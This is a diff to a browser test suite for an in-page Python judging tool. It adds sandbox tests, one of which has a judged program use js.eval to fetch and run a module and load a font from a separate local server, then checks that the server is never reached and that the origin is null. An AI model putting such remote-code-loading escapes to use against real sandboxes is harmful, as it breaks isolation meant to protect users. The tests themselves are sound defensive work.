@@ -3,6 +3,7 @@
 import assert from "node:assert/strict";
 import { execFile } from "node:child_process";
 import { mkdtemp } from "node:fs/promises";
+import { createServer } from "node:http";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { after, before, test } from "node:test";
@@ -130,6 +131,39 @@ test("a program without an end is stopped: by its time, or by hand with its work
   await verdict(/AttributeError: fetch/);
 });
 
+test("a judged program reaches no other server and no storage", async () => {
+  await go("#1/learn?l=write");
+  const reached = [];
+  const other = createServer((request, response) => {
+    reached.push(request.url);
+    response.setHeader("access-control-allow-origin", "*").end();
+  });
+  await new Promise((resolve) => other.listen(0, "127.0.0.1", resolve));
+  const url = `http://127.0.0.1:${other.address().port}`;
+  const attack = `import("${url}/module.js").catch(() => {});
+    new FontFace("x", "url(${url}/font.woff)").load().catch(() => {});`;
+  await judge(`import js, time
+js.eval(${JSON.stringify(attack)})
+time.sleep(0.5)
+raise RuntimeError("at home in " + js.eval("self.origin"))`);
+  await verdict(/at home in null/); // an origin of its own has no storage
+  await judge("raise RuntimeError('afterwards')"); // as long again for a request to arrive
+  await verdict(/afterwards/);
+  assert.deepEqual(reached, []);
+  other.close();
+  // The browser tells of what the policy refused: that was the attack.
+  for (const told of [asked, page.problems])
+    told.splice(0, told.length, ...told.filter((one) => !String(one).includes(url)));
+});
+
+test("a program that breaks Python leaves the next one a new one", async () => {
+  const nested = "class Value:\n    def __init__(self, data):\n        self.data = Value(data)";
+  await judge(`import sys\nsys.setrecursionlimit(10**8)\n${nested}`);
+  await page.getByRole("button", { name: "Judge it" }).waitFor();
+  await judge("raise RuntimeError('alive')");
+  await verdict(/RuntimeError: alive/);
+});
+
 test("a GPT trains in the page, pauses, and says what it costs", async () => {
   await go("#1/gpt");
   await page.getByText("Python runs in this page without C").waitFor();
@@ -158,7 +192,7 @@ test("gradients are checked, and a transformer's floor plan opens", async () => 
 
 test("nothing was asked of anyone else, and nothing went wrong", () => {
   assert.deepEqual(
-    asked.filter((url) => !url.startsWith(site.url)),
+    asked.filter((url) => !url.startsWith(site.url) && !url.startsWith("blob:null/")),
     [],
   );
   assert.deepEqual(page.problems, []);
